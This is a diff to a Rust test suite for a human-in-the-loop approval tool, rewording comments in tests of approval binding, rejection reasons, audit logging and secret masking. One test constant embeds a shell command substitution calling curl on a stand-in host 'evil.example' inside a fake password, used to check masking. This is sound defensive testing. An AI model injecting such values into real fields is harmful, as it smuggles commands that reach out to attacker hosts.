@@ -1,4 +1,4 @@
-//! Decisions of scripts.
+//! Decisions by scripts.
 
 use crate::house::House;
 
@@ -12,7 +12,7 @@ async fn what_was_approved_here_runs_there() {
     let outcome = call.ticket.wait().await.unwrap();
     assert!(format!("{outcome:?}").contains("wired 120 to Initech"), "{outcome:?}");
     assert_eq!(house.state(&call.id), "executed");
-    // The second of two decisions changes nothing, and says who was first.
+    // The second of two decisions changes nothing, and names the first decider.
     let late = house.hitl(&["reject", &call.id, "--reason", "too late", "--as", "eve"]).ended(4);
     assert!(late.err.contains("decided by bob"), "{late:?}");
 }
@@ -27,7 +27,7 @@ async fn invariant_2_nothing_is_approved_that_was_not_looked_at() {
         (&["approve", &call.id, "--yes"], 2),
         (&["approve", &call.id, "--binding", seven], 2),
         (&["approve", &call.id, "--binding", "not-hex-at-all"], 2),
-        // What was looked at was another call.
+        // The binding that was shown is that of another call.
         (&["approve", &call.id, "--binding", &other.binding], 4),
         (&["reject", &call.id, "--reason", "x", "--binding", &other.binding], 4),
     ];
@@ -48,7 +48,7 @@ async fn an_edited_call_is_not_the_one_that_was_looked_at() {
     let house = House::new().await;
     let call = house.wire("Initech", 120).await;
     let record = house.gate.get_by_key(&call.ticket.request().key).await.unwrap().unwrap();
-    // Somebody else edits it meanwhile; the editor's tool wants it decided anew or approves it.
+    // Somebody else edits it meanwhile; the editor's tool requires a new decision or approves it.
     let edit = record.request().edit(r#"{"amount": 5000}"#).by("carol");
     house.gate.decide(edit).await.unwrap();
     house.hitl(&["approve", &call.id, "--binding", &call.binding]).ended(4);
@@ -75,7 +75,7 @@ async fn a_deletion_is_approved_by_its_exact_name() {
 async fn the_other_answers() {
     let house = House::new().await;
     let reject = house.wire("Initech", 1).await;
-    // This tool wants a reason, and a blank one is none.
+    // This tool requires a reason, and a blank one does not count.
     house.hitl(&["reject", &reject.id, "--reason", " "]).ended(5);
     house.hitl(&["reject", &reject.id]).ended(2);
     house.hitl(&["reject", &reject.id, "--reason", "wrong account"]).ended(0);
@@ -89,7 +89,7 @@ async fn the_other_answers() {
     house.hitl(&["abort", &abort.id, "--reason", "stop", "--as", "bob"]).ended(0);
     let shown = house.hitl(&["show", &abort.id, "--json"]).ended(0).json();
     assert_eq!(shown[0]["decided"]["by"], "bob");
-    // What is over is not settled.
+    // A call that has ended is not resolved.
     house.hitl(&["resolve", &abort.id, "--done", "--version", "1"]).ended(4);
     house.hitl(&["resolve", &abort.id]).ended(2);
     house.hitl(&["resolve", &abort.id, "--done", "--retry"]).ended(2);
@@ -123,7 +123,7 @@ async fn a_decision_is_in_the_audit_that_it_names() {
     assert_eq!(house.state(&second.id), "pending");
 }
 
-/// A log that takes nothing: the disk is full.
+/// The log accepts nothing: the disk is full.
 #[cfg(target_os = "linux")]
 #[tokio::test(flavor = "multi_thread")]
 async fn a_decision_that_the_audit_did_not_take_has_an_exit_code_of_its_own() {
@@ -138,7 +138,7 @@ async fn a_decision_that_the_audit_did_not_take_has_an_exit_code_of_its_own() {
     assert_eq!(house.state(&call.id), "rejected", "it was done");
 }
 
-/// A payee that holds what a shell runs, behind the name of a secret.
+/// A payee that contains shell code, after the name of a secret.
 const PAYEE: &str = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
 
 #[tokio::test(flavor = "multi_thread")]
@@ -161,7 +161,7 @@ async fn invariant_9b_what_is_masked_is_uncovered_where_it_is_audited() {
     let log = std::fs::read_to_string(folder.join("audit-1.jsonl")).unwrap();
     assert!(log.contains(r#""event":"uncovered""#) && log.contains("uncovered /to"), "{log}");
     assert!(!log.contains("curl") && !log.contains("aB3dE6gH"), "{log}");
-    // Of another tenant, it is not there.
+    // For another tenant, the call does not exist.
     house.hitl(&[&uncover[..], &["--tenant", "other"]].concat()).ended(3);
     // A script that names the binding has been shown the masks.
     house.hitl(&["approve", &call.id, "--binding", &call.binding]).ended(0);
